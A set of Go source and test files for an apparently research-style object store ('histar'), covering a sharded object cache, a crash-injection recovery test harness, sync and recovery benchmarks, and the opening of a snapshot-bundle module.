	// Rewriting the object relocates it with a recorded contents CRC; from
	// then on every read and scrub verifies it.
	if err := s2.PutLabeled(legacyID, lbl, contents); err != nil {
		t.Fatal(err)
	}
	if err := s2.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	st, err = s2.Scrub()
	if err != nil {
		t.Fatal(err)
	}
	if st.ObjectsChecked != 1 || st.ObjectsUnverifiable != 0 || st.CorruptionsFound != 0 {
		t.Fatalf("scrub after object rewrite: %+v", st)
	}
}
