package store

import (
	"sync"
	"sync/atomic"

	"histar/internal/btree"
	"histar/internal/label"
)

// objEntry is the in-memory state of one object: cached contents, dirty and
// dead flags, and the recorded label.  All fields are guarded by mu, except
// that holders of the store's ckptMu in write mode (Checkpoint) and
// single-threaded construction (Format, Open) access them directly.
// Contents are copy-on-write: data is replaced wholesale, never mutated, so
// a sealed group-commit record may keep aliasing a superseded slice.
type objEntry struct {
	mu     sync.Mutex
	data   []byte
	cached bool // contents resident (the "page cache")
	dirty  bool // modified since the last checkpoint seal
	dead   bool // deleted since the last checkpoint seal
	lbl    label.Label
	hasLbl bool
	// quar marks an object whose home-extent contents failed checksum
	// verification: accesses that would read the damaged extent return
	// ErrQuarantined instead of corrupt bytes, until a Put/Delete replaces
	// the contents.  The flag never blocks a resident (cached) copy.
	quar bool
	// ckpt marks an entry sealed into the running incremental checkpoint:
	// the seal cleared dirty, so until the checkpoint body writes the data
	// to its new home extent, this in-memory copy is the only one — the
	// flag keeps EvictCache from dropping it and scrub from judging the
	// object by an extent the checkpoint is about to supersede.  Cleared by
	// the body after relocation, or restored to dirty if the body fails.
	ckpt bool
}

// storeShard is one shard of the object-entry table, selected by object-ID
// bits.  mu guards the id→entry map and this shard's slice of the label
// fingerprint index ((fingerprint, id) pairs whose id belongs to the shard).
// mu is never held while an entry lock is acquired; entry locks may nest a
// shard lock inside them (label-index updates).
type storeShard struct {
	mu         sync.RWMutex
	objs       map[uint64]*objEntry
	labelIndex *btree.Tree
	// ops counts shard selections, for the occupancy/contention stats the
	// benchmarks print.
	ops atomic.Uint64
	_   [32]byte // keep adjacent shards off one cache line
}

func (s *Store) shardOf(id uint64) *storeShard {
	sh := &s.shards[id&s.shardMask]
	sh.ops.Add(1)
	return sh
}

// lookup returns the entry for id, or nil.  Entry pointers stay valid while
// the caller holds ckptMu in read mode (only Checkpoint removes entries).
func (sh *storeShard) lookup(id uint64) *objEntry {
	sh.mu.RLock()
	e := sh.objs[id]
	sh.mu.RUnlock()
	return e
}

// getOrCreate returns the entry for id, inserting a fresh one if absent.
func (sh *storeShard) getOrCreate(id uint64) *objEntry {
	if e := sh.lookup(id); e != nil {
		return e
	}
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if e := sh.objs[id]; e != nil {
		return e
	}
	e := &objEntry{}
	sh.objs[id] = e
	return e
}

// shardEntry pairs an entry with its id for lock-free iteration after a
// snapshot.
type shardEntry struct {
	id    uint64
	entry *objEntry
}

// snapshot copies the shard's (id, entry) pairs under the shard read lock so
// callers can lock entries afterwards without holding mu (which would invert
// the entry→shard lock order).
func (sh *storeShard) snapshot() []shardEntry {
	sh.mu.RLock()
	out := make([]shardEntry, 0, len(sh.objs))
	for id, e := range sh.objs {
		out = append(out, shardEntry{id: id, entry: e})
	}
	sh.mu.RUnlock()
	return out
}

// setLabel records a label and keeps the shard's fingerprint-index slice in
// step.  The caller holds e.mu (or ckptMu exclusively / single-threaded
// init); the shard lock is taken inside, per the lock order.
func (s *Store) setLabel(sh *storeShard, id uint64, e *objEntry, lbl label.Label) {
	sh.mu.Lock()
	if e.hasLbl {
		sh.labelIndex.Delete(btree.K2(uint64(e.lbl.Fingerprint()), id))
	}
	sh.labelIndex.Put(btree.K2(uint64(lbl.Fingerprint()), id), 0)
	sh.mu.Unlock()
	e.lbl, e.hasLbl = lbl, true
}

// clearLabel drops an object's label and its index entry; locking as for
// setLabel.
func (s *Store) clearLabel(sh *storeShard, id uint64, e *objEntry) {
	if !e.hasLbl {
		return
	}
	sh.mu.Lock()
	sh.labelIndex.Delete(btree.K2(uint64(e.lbl.Fingerprint()), id))
	sh.mu.Unlock()
	e.lbl, e.hasLbl = label.Label{}, false
}

// ShardStat describes one shard of the object cache.
type ShardStat struct {
	// Objects is the number of resident entries, Labeled the number with a
	// recorded label, and Ops the cumulative shard selections — together the
	// occupancy/contention picture the benchmarks print.
	Objects int
	Labeled int
	Ops     uint64
}

// ShardStats returns a per-shard snapshot of the object cache.
func (s *Store) ShardStats() []ShardStat {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	out := make([]ShardStat, len(s.shards))
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		out[i] = ShardStat{
			Objects: len(sh.objs),
			Labeled: sh.labelIndex.Len(),
			Ops:     sh.ops.Load(),
		}
		sh.mu.RUnlock()
	}
	return out
}
