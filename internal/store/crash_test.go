package store

// Crash-injection recovery harness: a randomized workload of Put /
// PutLabeled / Delete / SyncObject / Checkpoint runs on a write-through
// disk wrapped in a disk.FaultDisk, which kills the device at an injected
// crash point (a byte offset into the write stream, torn or omitted at
// sector granularity).  The surviving image is then reopened and checked
// against a reference model:
//
//   - every state committed before the crash (by a successful SyncObject or
//     Checkpoint) must come back exactly — contents, label, fingerprint,
//     and fingerprint-index membership;
//   - any newer state observed instead must be one the object actually
//     passed through (a later commit may have become durable even though
//     the crash made its success unreportable);
//   - the fingerprint index must mirror the recovered label map.
//
// Crash points are derived from a fault-free pass that records the
// cumulative byte offset of every completed device write; the workload is
// then replayed with the fault armed at every write boundary (and torn
// mid-write for multi-sector writes).  Each replay re-derives its own
// commit log, so the harness does not depend on replays being byte-for-byte
// identical.

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"sync"
	"sync/atomic"
	"testing"

	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/vclock"
)

type opKind int

const (
	opPut opKind = iota
	opPutLabeled
	opDelete
	opSync
	opCheckpoint
	numOpKinds
)

type wlOp struct {
	kind opKind
	id   uint64
	data []byte
	lbl  label.Label
}

// objState is one full state an object passed through: contents plus label.
type objState struct {
	exists   bool
	data     []byte
	lbl      label.Label
	hasLabel bool
}

func (a objState) equal(b objState) bool {
	if a.exists != b.exists {
		return false
	}
	if !a.exists {
		return true
	}
	return bytes.Equal(a.data, b.data) && a.hasLabel == b.hasLabel &&
		(!a.hasLabel || a.lbl.Equal(b.lbl))
}

// refModel tracks, per object, every state it passed through and the index
// of the last state known committed.
type refModel struct {
	history    map[uint64][]objState
	durableIdx map[uint64]int
}

func newRefModel() *refModel {
	return &refModel{history: make(map[uint64][]objState), durableIdx: make(map[uint64]int)}
}

func (m *refModel) hist(id uint64) []objState {
	if _, ok := m.history[id]; !ok {
		m.history[id] = []objState{{exists: false}} // state 0: never existed
	}
	return m.history[id]
}

func (m *refModel) push(id uint64, st objState) {
	m.history[id] = append(m.hist(id), st)
}

func (m *refModel) latest(id uint64) objState {
	h := m.hist(id)
	return h[len(h)-1]
}

// commit marks id's latest state durable.
func (m *refModel) commit(id uint64) {
	m.durableIdx[id] = len(m.hist(id)) - 1
}

// commitAll marks every object's latest state durable (a checkpoint).
func (m *refModel) commitAll() {
	for id := range m.history {
		m.commit(id)
	}
}

// genWorkload builds a deterministic randomized op sequence over a small id
// space with labels drawn from a small category pool, so syncs, deletes,
// checkpoints and label changes interleave densely.
func genWorkload(r *rand.Rand, n int) []wlOp {
	return genWorkloadIn(r, n, 0, 12)
}

// genWorkloadIn is genWorkload over the id range [base, base+span); the
// concurrent harness gives each worker a disjoint range so every object has
// exactly one writer and its reference history stays exact.
func genWorkloadIn(r *rand.Rand, n int, base uint64, span int) []wlOp {
	var ops []wlOp
	for i := 0; i < n; i++ {
		id := base + uint64(r.Intn(span))
		switch k := opKind(r.Intn(int(numOpKinds))); k {
		case opPut:
			ops = append(ops, wlOp{kind: opPut, id: id, data: randPayload(r)})
		case opPutLabeled:
			ops = append(ops, wlOp{kind: opPutLabeled, id: id, data: randPayload(r), lbl: randLabel(r)})
		case opDelete:
			ops = append(ops, wlOp{kind: opDelete, id: id})
		case opSync:
			ops = append(ops, wlOp{kind: opSync, id: id})
		case opCheckpoint:
			ops = append(ops, wlOp{kind: opCheckpoint})
		}
	}
	return ops
}

func randPayload(r *rand.Rand) []byte {
	n := r.Intn(1500) + 1
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Intn(256))
	}
	return b
}

func randLabel(r *rand.Rand) label.Label {
	n := r.Intn(3) + 1
	pairs := make([]label.Pair, 0, n)
	for i := 0; i < n; i++ {
		lv := []label.Level{label.L0, label.L2, label.L3}[r.Intn(3)]
		pairs = append(pairs, label.P(label.Category(r.Intn(6)+1), lv))
	}
	return label.New(label.L1, pairs...)
}

const (
	crashLogSize  = 96 << 10
	crashMetaSize = 192 << 10
	crashSectors  = 1 << 14 // 8 MB write-through disk
)

// crashOpts shrinks every region so the randomized workloads exercise log
// reclamation, checkpoint fallbacks, and the segment cleaner: the 64 KB
// segments fill and turn over within a handful of checkpoints.
var crashOpts = Options{LogSize: crashLogSize, MetaAreaSize: crashMetaSize, SegmentSize: 64 << 10}

// newCrashRig formats a store on a write-through disk behind a FaultDisk.
// The fault is armed only after Format, so crash points cover the workload.
func newCrashRig(t *testing.T) (*Store, *disk.FaultDisk) {
	t.Helper()
	d := disk.New(disk.Params{Sectors: crashSectors, WriteCache: false}, &vclock.Clock{})
	fd := disk.NewFaultDisk(d)
	s, err := Format(fd, crashOpts)
	if err != nil {
		t.Fatal(err)
	}
	return s, fd
}

// runWorkload applies ops to s, maintaining the reference model, until the
// injected fault fires (or the ops run out).  It reports whether the run
// crashed.
func runWorkload(t *testing.T, s *Store, ops []wlOp, m *refModel) bool {
	t.Helper()
	faulted := func(err error) bool {
		if err == nil {
			return false
		}
		if errors.Is(err, disk.ErrFault) {
			return true
		}
		t.Fatalf("workload op failed with non-fault error: %v", err)
		return true
	}
	for _, op := range ops {
		switch op.kind {
		case opPut:
			if faulted(s.Put(op.id, op.data)) {
				return true
			}
			prev := m.latest(op.id)
			m.push(op.id, objState{exists: true, data: op.data, lbl: prev.lbl, hasLabel: prev.exists && prev.hasLabel})
		case opPutLabeled:
			if faulted(s.PutLabeled(op.id, op.lbl, op.data)) {
				return true
			}
			m.push(op.id, objState{exists: true, data: op.data, lbl: op.lbl, hasLabel: true})
		case opDelete:
			if faulted(s.Delete(op.id)) {
				return true
			}
			m.push(op.id, objState{exists: false})
		case opSync:
			// Record the seal sequence under ckptMu the way SyncObject itself
			// does: with incremental checkpoints, "a checkpoint completed
			// during my sync" is not enough to mark everything durable (the
			// completing body may belong to a seal from before this worker's
			// recent Puts).  Only a checkpoint SEALED strictly after this
			// point — observed as completedSeal moving past q — captured
			// every state pushed so far.
			s.ckptMu.RLock()
			q := s.sealSeq.Load()
			s.ckptMu.RUnlock()
			if faulted(s.SyncObject(op.id)) {
				return true
			}
			if s.completedSeal.Load() > q {
				// The log filled and SyncObject checkpointed everything.
				m.commitAll()
			}
			m.commit(op.id)
		case opCheckpoint:
			if faulted(s.Checkpoint()) {
				return true
			}
			m.commitAll()
		}
	}
	return false
}

// verifyRecovery reopens the (possibly crash-torn) image and checks it
// against the model.  It returns the recovered store with the model reset to
// the observed (now authoritative) state, so the caller can keep operating
// on it — recovery bugs that leave latent bad in-memory state only fire on
// the operations after a reboot.
func verifyRecovery(t *testing.T, dev disk.Device, m *refModel, point string) *Store {
	t.Helper()
	s, err := Open(dev, crashOpts)
	if err != nil {
		t.Fatalf("%s: recovery failed to open the store: %v", point, err)
	}
	for id := range m.history {
		var got objState
		data, err := s.Get(id)
		switch {
		case errors.Is(err, ErrNoSuchObject):
			got = objState{exists: false}
		case err != nil:
			t.Fatalf("%s: Get(%d): %v", point, id, err)
		default:
			got = objState{exists: true, data: data}
			got.lbl, got.hasLabel = s.Label(id)
		}
		h := m.hist(id)
		lo := m.durableIdx[id]
		matched := -1
		for j := lo; j < len(h); j++ {
			if h[j].equal(got) {
				matched = j
				break
			}
		}
		if matched < 0 {
			t.Errorf("%s: object %d recovered in a state it never committed:\n  got  exists=%v len=%d hasLabel=%v lbl=%v\n  want one of states %d..%d (durable: exists=%v len=%d hasLabel=%v lbl=%v)",
				point, id, got.exists, len(got.data), got.hasLabel, got.lbl,
				lo, len(h)-1, h[lo].exists, len(h[lo].data), h[lo].hasLabel, h[lo].lbl)
			continue
		}
		// The recovered state is the new baseline for this object.
		m.history[id] = []objState{h[matched]}
		m.durableIdx[id] = 0
		// Committed labels must come back with identical fingerprints and be
		// findable through the fingerprint index without any label decode.
		if got.exists && got.hasLabel {
			if got.lbl.Fingerprint() != h[matched].lbl.Fingerprint() {
				t.Errorf("%s: object %d label fingerprint mismatch after recovery", point, id)
			}
			found := false
			for _, oid := range s.ObjectsWithLabel(got.lbl.Fingerprint()) {
				if oid == id {
					found = true
					break
				}
			}
			if !found {
				t.Errorf("%s: object %d missing from the fingerprint index after recovery", point, id)
			}
		}
	}
	if err := s.VerifyLabelIndex(); err != nil {
		t.Errorf("%s: %v", point, err)
	}
	return s
}

// continueAfterRecovery keeps operating on a recovered store — more random
// ops ending in a crash (reopen with no checkpoint) — to flush out recovery
// bugs whose damage is latent in the replayed in-memory state and would be
// healed by a graceful close (e.g. a stale tombstone flag that only
// corrupts the NEXT sync).
func continueAfterRecovery(t *testing.T, s *Store, m *refModel, contSeed int64, point string) {
	t.Helper()
	cont := genWorkload(rand.New(rand.NewSource(contSeed)), 15)
	// Make sure at least one sync of a replayed object happens, whatever
	// the random mix says: syncs are where stale replay state does damage.
	for id := range m.history {
		cont = append(cont, wlOp{kind: opSync, id: id})
	}
	if runWorkload(t, s, cont, m) {
		t.Fatalf("%s: continuation crashed with no fault armed", point)
	}
}

// crashPoints derives the set of byte offsets to inject faults at from the
// write boundaries of a fault-free run: every boundary (the next write dies
// whole) plus a torn midpoint inside every multi-sector write.
func crashPoints(bounds []int64) []int64 {
	points := []int64{0}
	prev := int64(0)
	for _, b := range bounds {
		if mid := prev + (b-prev)/2; mid > prev && mid < b && b-prev > disk.SectorSize {
			points = append(points, mid)
		}
		points = append(points, b)
		prev = b
	}
	// Dedup (adjacent points can collide after the midpoint rounding).
	out := points[:0]
	var last int64 = -1
	for _, p := range points {
		if p != last {
			out = append(out, p)
		}
		last = p
	}
	return out
}

// runWorkloadConcurrent runs one op stream per worker against s, each worker
// maintaining its own reference model over its disjoint id range.  The
// soundness argument under concurrency: every state a worker's object passes
// through is pushed to that worker's history before the worker's next op, so
// the histories stay complete; durability marks are conservative (a worker
// marks only its own objects durable, on its own successful syncs and
// checkpoints — another worker's checkpoint making its objects durable early
// just widens the window verifyRecovery accepts).  It reports whether the
// armed fault stopped any worker; any non-fault failure fails the test.
func runWorkloadConcurrent(t *testing.T, s *Store, workers [][]wlOp, models []*refModel) bool {
	t.Helper()
	var (
		wg      sync.WaitGroup
		crashed atomic.Bool
		errMu   sync.Mutex
		badErr  error
	)
	for w := range workers {
		wg.Add(1)
		go func(ops []wlOp, m *refModel) {
			defer wg.Done()
			for _, op := range ops {
				var err error
				switch op.kind {
				case opPut:
					if err = s.Put(op.id, op.data); err == nil {
						prev := m.latest(op.id)
						m.push(op.id, objState{exists: true, data: op.data, lbl: prev.lbl, hasLabel: prev.exists && prev.hasLabel})
					}
				case opPutLabeled:
					if err = s.PutLabeled(op.id, op.lbl, op.data); err == nil {
						m.push(op.id, objState{exists: true, data: op.data, lbl: op.lbl, hasLabel: true})
					}
				case opDelete:
					if err = s.Delete(op.id); err == nil {
						m.push(op.id, objState{exists: false})
					}
				case opSync:
					if err = s.SyncObject(op.id); err == nil {
						m.commit(op.id)
					}
				case opCheckpoint:
					// A successful checkpoint made at least this worker's own
					// latest states durable (its ops are sequential, so none
					// were in flight); other workers' objects are left to
					// their own conservative marks.
					if err = s.Checkpoint(); err == nil {
						m.commitAll()
					}
				}
				if err != nil {
					if !errors.Is(err, disk.ErrFault) {
						errMu.Lock()
						if badErr == nil {
							badErr = fmt.Errorf("op on object %d: %w", op.id, err)
						}
						errMu.Unlock()
					}
					crashed.Store(true)
					return
				}
			}
		}(workers[w], models[w])
	}
	wg.Wait()
	errMu.Lock()
	defer errMu.Unlock()
	if badErr != nil {
		t.Fatalf("concurrent workload failed with non-fault error: %v", badErr)
	}
	return crashed.Load()
}

// mergeModels folds per-worker models (over disjoint ids) into one for
// verification.
func mergeModels(models []*refModel) *refModel {
	out := newRefModel()
	for _, m := range models {
		for id, h := range m.history {
			out.history[id] = h
			out.durableIdx[id] = m.durableIdx[id]
		}
	}
	return out
}

const (
	concWorkers = 4
	concIDSpan  = 6
	concOps     = 14
)

func concWorkloads(seed int64) [][]wlOp {
	workers := make([][]wlOp, concWorkers)
	for w := range workers {
		r := rand.New(rand.NewSource(seed*1000 + int64(w)))
		workers[w] = genWorkloadIn(r, concOps, uint64(w*concIDSpan), concIDSpan)
	}
	return workers
}

func freshModels() []*refModel {
	models := make([]*refModel, concWorkers)
	for w := range models {
		models[w] = newRefModel()
	}
	return models
}

// TestCrashRecoveryConcurrentEveryPoint replays a *concurrent* randomized
// workload — group-committing syncers, checkpoints, deletes and label
// changes racing across four workers — with a fault injected at every write
// boundary the fault-free pass recorded (plus torn midpoints), and verifies
// recovery against the merged reference models each time.  Crash points
// inside a batch commit land between the log body write and the header
// update, so the mid-batch cases are covered by construction.
func TestCrashRecoveryConcurrentEveryPoint(t *testing.T) {
	seeds := []int64{1, 2}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		workers := concWorkloads(seed)

		// Fault-free pass: learn a write-boundary set (replays reproduce
		// their own interleavings; the points just have to land inside the
		// write stream, which these do).
		s, fd := newCrashRig(t)
		fd.Arm(-1, disk.FaultTorn)
		models := freshModels()
		if runWorkloadConcurrent(t, s, workers, models) {
			t.Fatal("fault-free concurrent pass crashed")
		}
		if err := s.Checkpoint(); err != nil {
			t.Fatal(err)
		}
		merged := mergeModels(models)
		merged.commitAll()
		verifyRecovery(t, fd.Inner(), merged, fmt.Sprintf("conc seed %d clean", seed))
		points := crashPoints(fd.WriteBounds())

		for _, mode := range []disk.FaultMode{disk.FaultTorn, disk.FaultOmit, disk.FaultFlip} {
			for _, pt := range points {
				s, fd := newCrashRig(t)
				// Flip damage is seeded so a failure reproduces exactly; the
				// seed is part of the point string a failing run prints.
				flipSeed := seed*1_000_000 + pt
				if mode == disk.FaultFlip {
					fd.SetFlipSeed(flipSeed)
				}
				fd.Arm(pt, mode)
				models := freshModels()
				crashed := runWorkloadConcurrent(t, s, workers, models)
				if !crashed && fd.Tripped() {
					t.Fatalf("conc seed %d %v@%d: fault tripped but no op reported it", seed, mode, pt)
				}
				point := fmt.Sprintf("conc seed %d %v@%d", seed, mode, pt)
				if mode == disk.FaultFlip {
					point = fmt.Sprintf("%s flipseed=%d", point, flipSeed)
				}
				m := mergeModels(models)
				rec := verifyRecovery(t, fd.Inner(), m, point)
				if t.Failed() {
					return // one failing crash point is enough detail
				}
				// Life goes on after the reboot (single-threaded: the replay
				// bugs this flushes out are about recovered state, not
				// concurrency).
				continueAfterRecovery(t, rec, m, seed*1_000_000+pt, point)
				verifyRecovery(t, fd.Inner(), m, point+" post-continuation")
				if t.Failed() {
					return
				}
			}
		}
	}
}

// TestCrashRecoveryEveryPoint is the main harness entry: for several
// workload seeds and both straddle modes, replay the workload with a fault
// injected at every crash point and verify recovery each time.
func TestCrashRecoveryEveryPoint(t *testing.T) {
	seeds := []int64{1, 2, 3}
	opsPerSeed := 90
	if testing.Short() {
		seeds = seeds[:1]
		opsPerSeed = 50
	}
	for _, seed := range seeds {
		ops := genWorkload(rand.New(rand.NewSource(seed)), opsPerSeed)

		// Fault-free pass: learn the write boundaries (and make sure the
		// workload itself is clean end to end).
		s, fd := newCrashRig(t)
		fd.Arm(-1, disk.FaultTorn)
		m := newRefModel()
		if runWorkload(t, s, ops, m) {
			t.Fatal("fault-free pass crashed")
		}
		if err := s.Checkpoint(); err != nil {
			t.Fatal(err)
		}
		m.commitAll()
		verifyRecovery(t, fd.Inner(), m, fmt.Sprintf("seed %d clean", seed))
		points := crashPoints(fd.WriteBounds())

		for _, mode := range []disk.FaultMode{disk.FaultTorn, disk.FaultOmit, disk.FaultFlip} {
			for _, pt := range points {
				s, fd := newCrashRig(t)
				// Seeded flip: the corrupted byte and mask derive from the
				// seed recorded in the point string, so any failure here is
				// reproducible bit-for-bit.
				flipSeed := seed*1_000_000 + pt
				if mode == disk.FaultFlip {
					fd.SetFlipSeed(flipSeed)
				}
				fd.Arm(pt, mode)
				m := newRefModel()
				crashed := runWorkload(t, s, ops, m)
				if !crashed && fd.Tripped() {
					t.Fatalf("seed %d %v@%d: fault tripped but no op reported it", seed, mode, pt)
				}
				point := fmt.Sprintf("seed %d %v@%d", seed, mode, pt)
				if mode == disk.FaultFlip {
					point = fmt.Sprintf("%s flipseed=%d", point, flipSeed)
				}
				rec := verifyRecovery(t, fd.Inner(), m, point)
				if t.Failed() {
					return // one failing crash point is enough detail
				}
				// Life goes on after the reboot: run more ops on the
				// recovered store, checkpoint, and verify the final image
				// exactly (this leg is what catches latent replay-state
				// bugs, like a stale dead flag poisoning the next sync).
				continueAfterRecovery(t, rec, m, seed*1_000_000+pt, point)
				verifyRecovery(t, fd.Inner(), m, point+" post-continuation")
				if t.Failed() {
					return
				}
			}
		}
	}
}
