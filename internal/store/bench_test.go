package store

import (
	"fmt"
	"testing"

	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/vclock"
)

func benchStore(b *testing.B) (*Store, *disk.Disk) {
	b.Helper()
	d := disk.New(disk.Params{Sectors: 1 << 19, WriteCache: true}, &vclock.Clock{}) // 256 MB
	s, err := Format(d, Options{LogSize: 64 << 20})
	if err != nil {
		b.Fatal(err)
	}
	return s, d
}

// BenchmarkSyncObjectLabeled measures the per-object sync fast path with the
// label riding in the log record: one PutLabeled plus one WAL commit.
func BenchmarkSyncObjectLabeled(b *testing.B) {
	s, _ := benchStore(b)
	taint := label.New(label.L1,
		label.P(label.Category(7), label.L3), label.P(label.Category(9), label.L0))
	payload := make([]byte, 1024)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		id := uint64(i % 512)
		if err := s.PutLabeled(id, taint, payload); err != nil {
			b.Fatal(err)
		}
		if err := s.SyncObject(id); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	st := s.Stats()
	b.ReportMetric(float64(st.LabelBytesLogged)/float64(b.N), "lbl-bytes/op")
}

// BenchmarkRecovery measures Open on an image whose write-ahead log holds
// labeled records for every object: superblock read, snapshot decode, log
// replay with label restore, and fingerprint-index rebuild.
func BenchmarkRecovery(b *testing.B) {
	for _, n := range []int{100, 1000} {
		b.Run(fmt.Sprintf("objects=%d", n), func(b *testing.B) {
			s, d := benchStore(b)
			payload := make([]byte, 1024)
			for i := 0; i < n; i++ {
				lbl := label.New(label.L1, label.P(label.Category(uint64(i%16+1)), label.L3))
				if err := s.PutLabeled(uint64(i), lbl, payload); err != nil {
					b.Fatal(err)
				}
				if err := s.SyncObject(uint64(i)); err != nil {
					b.Fatal(err)
				}
			}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				s2, err := Open(d, Options{LogSize: 64 << 20})
				if err != nil {
					b.Fatal(err)
				}
				if s2.LabelCount() != n {
					b.Fatalf("recovered %d labels, want %d", s2.LabelCount(), n)
				}
			}
		})
	}
}
