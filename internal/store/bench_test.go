package store

import (
	"fmt"
	"sync"
	"sync/atomic"
	"testing"

	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/vclock"
)

func benchStore(b *testing.B) (*Store, *disk.Disk) {
	b.Helper()
	d := disk.New(disk.Params{Sectors: 1 << 19, WriteCache: true}, &vclock.Clock{}) // 256 MB
	s, err := Format(d, Options{LogSize: 64 << 20})
	if err != nil {
		b.Fatal(err)
	}
	return s, d
}

// BenchmarkSyncObjectLabeled measures the per-object sync fast path with the
// label riding in the log record: one PutLabeled plus one WAL commit.
func BenchmarkSyncObjectLabeled(b *testing.B) {
	s, _ := benchStore(b)
	taint := label.New(label.L1,
		label.P(label.Category(7), label.L3), label.P(label.Category(9), label.L0))
	payload := make([]byte, 1024)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		id := uint64(i % 512)
		if err := s.PutLabeled(id, taint, payload); err != nil {
			b.Fatal(err)
		}
		if err := s.SyncObject(id); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	st := s.Stats()
	b.ReportMetric(float64(st.LabelBytesLogged)/float64(b.N), "lbl-bytes/op")
}

// BenchmarkRecovery measures Open on an image whose write-ahead log holds
// labeled records for every object: superblock read, snapshot decode, log
// replay with label restore, and fingerprint-index rebuild.
func BenchmarkRecovery(b *testing.B) {
	for _, n := range []int{100, 1000} {
		b.Run(fmt.Sprintf("objects=%d", n), func(b *testing.B) {
			s, d := benchStore(b)
			payload := make([]byte, 1024)
			for i := 0; i < n; i++ {
				lbl := label.New(label.L1, label.P(label.Category(uint64(i%16+1)), label.L3))
				if err := s.PutLabeled(uint64(i), lbl, payload); err != nil {
					b.Fatal(err)
				}
				if err := s.SyncObject(uint64(i)); err != nil {
					b.Fatal(err)
				}
			}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				s2, err := Open(d, Options{LogSize: 64 << 20})
				if err != nil {
					b.Fatal(err)
				}
				if s2.LabelCount() != n {
					b.Fatalf("recovered %d labels, want %d", s2.LabelCount(), n)
				}
			}
		})
	}
}

// ---------------------------------------------------------------------------
// Store scaling: parallel SyncObject throughput over the sharded cache and
// the group committer.  Eight workers over disjoint id ranges hammer
// Put+SyncObject; the sharded store batches their log commits (assert: WAL
// commits per sync < 1) while the _SingleShard variant forces the
// pre-sharding shape for the ablation.  BenchmarkSyncSerial is the same op
// pair from one goroutine, for the per-op baseline.
// ---------------------------------------------------------------------------

func benchSyncParallel(b *testing.B, shards int) {
	d := disk.New(disk.Params{Sectors: 1 << 19, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 64 << 20, Shards: shards})
	if err != nil {
		b.Fatal(err)
	}
	payload := make([]byte, 1024)
	// Exactly 8 worker goroutines regardless of GOMAXPROCS, sharing b.N ops
	// through one counter, so the sharded-vs-single-shard ratio is measured
	// at the same concurrency level on every host (the kernel's parallel
	// syscall benchmark uses the same shape).
	const nWorkers = 8
	var (
		wg sync.WaitGroup
		n  atomic.Int64
	)
	b.ResetTimer()
	for w := 0; w < nWorkers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			base := uint64(w) << 32 // disjoint id ranges per worker
			for i := n.Add(1); i <= int64(b.N); i = n.Add(1) {
				id := base + uint64(i)%512
				if err := s.Put(id, payload); err != nil {
					b.Error(err)
					return
				}
				if err := s.SyncObject(id); err != nil {
					b.Error(err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	b.StopTimer()
	st := s.Stats()
	if st.ObjectSyncs > 0 {
		b.ReportMetric(float64(st.WALCommits)/float64(st.ObjectSyncs), "commits/sync")
	}
	if gs := s.GroupCommitStats(); gs.Batches > 0 {
		b.ReportMetric(float64(gs.Records)/float64(gs.Batches), "recs/batch")
	}
}

func BenchmarkSyncParallel(b *testing.B)             { benchSyncParallel(b, 0) }
func BenchmarkSyncParallel_SingleShard(b *testing.B) { benchSyncParallel(b, 1) }

func BenchmarkSyncSerial(b *testing.B) {
	s, _ := benchStore(b)
	payload := make([]byte, 1024)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		id := uint64(i % 512)
		if err := s.Put(id, payload); err != nil {
			b.Fatal(err)
		}
		if err := s.SyncObject(id); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	st := s.Stats()
	if st.ObjectSyncs > 0 {
		b.ReportMetric(float64(st.WALCommits)/float64(st.ObjectSyncs), "commits/sync")
	}
}
