package store

// Snapshot bundles: a bundle captures a set of committed objects — their
// home extents, contents CRCs, and canonical labels — *by reference* into
// the append-only data region, under a deterministic lineage ID.  Cloning
// an object out of a bundle is O(metadata): the clone's object-map entry
// simply aliases the source extent, and the first rewrite of the clone goes
// through the ordinary dirty/relocate path, giving it a private home extent
// (copy-on-write at checkpoint granularity).
//
// Sharing is tracked by extRefs, a refcount over extents with more than one
// referent (object-map entries plus bundle pins; an absent entry means the
// single ordinary owner).  vacateExtent consults it first, so neither the
// segment cleaner nor the deferred-free path can reclaim bytes reachable
// from a live bundle or a live clone.  Segments holding bundle-referenced
// extents are additionally immovable: bundles record extents by offset, so
// the cleaner skips such segments entirely rather than copying them out.
//
// Durability: SnapshotBundle runs a checkpoint first (the captured extents
// must be committed homes), registers the bundle, then appends and commits
// a WAL bundle record carrying the serialized bundle, so the bundle
// survives a crash immediately; from the next checkpoint on it also lives
// in the metadata snapshot's bundle section (format v4).  Each clone
// appends a small self-contained WAL clone record (lineage, source ID,
// extent, CRC) plus the clone's label; replay re-aliases the extent, and a
// clone record whose bundle cannot be resolved quarantines the destination
// — a typed error, never silent bad bytes.  DeleteBundle needs no record
// of its own: it unregisters, releases the pins, and checkpoints, and the
// checkpoint's metadata flip is what makes the deletion durable (a
// fallback mount may resurrect the bundle along with the rest of the older
// snapshot, which is consistent by construction).
//
// Rot: when any read path detects a contents-CRC mismatch on an extent,
// the damage is propagated to every referent — each aliasing object is
// quarantined and each bundle entry over that extent is marked rotted, so
// further clones of it fail with a QuarantineError.

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/fnv"
	"sort"

	"histar/internal/btree"
	"histar/internal/label"
	"histar/internal/wal"
)

// Bundle errors.
var (
	// ErrNoSuchBundle is returned when a lineage ID names no registered
	// snapshot bundle (wrong ID, deleted bundle, or an image that lost it).
